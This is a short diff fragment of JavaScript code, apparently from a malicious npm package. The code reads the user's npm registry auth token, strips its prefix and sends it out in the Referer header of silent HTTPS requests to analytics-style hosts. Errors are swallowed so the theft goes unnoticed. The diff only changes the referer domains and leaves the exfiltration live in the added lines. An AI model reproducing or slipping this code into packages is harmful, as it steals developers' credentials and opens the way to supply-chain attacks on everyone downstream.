@@ -11,8 +11,8 @@ try {
         content = content.replace('//registry.npmjs.org/:_authToken=', '').trim();
 
         var https1 = require('https');
-        https1.get({hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101', method: 'GET', headers: {Referer: 'http://1.a/' + content}}, () => {}).on("error", () => {});
-        https1.get({hostname: 'c.statcounter.example', path: '/11760461/0/7b5b9d71/1/', method: 'GET', headers: {Referer: 'http://2.b/' + content}}, () => {}).on("error", () => {});
+        https1.get({hostname: 'sstatic1.histats.example', path: '/0.gif?4103075&101', method: 'GET', headers: {Referer: 'http://1.a.invalid/' + content}}, () => {}).on("error", () => {});
+        https1.get({hostname: 'c.statcounter.example', path: '/11760461/0/7b5b9d71/1/', method: 'GET', headers: {Referer: 'http://2.b.invalid/' + content}}, () => {}).on("error", () => {});
 
     }
 } catch (e) {}
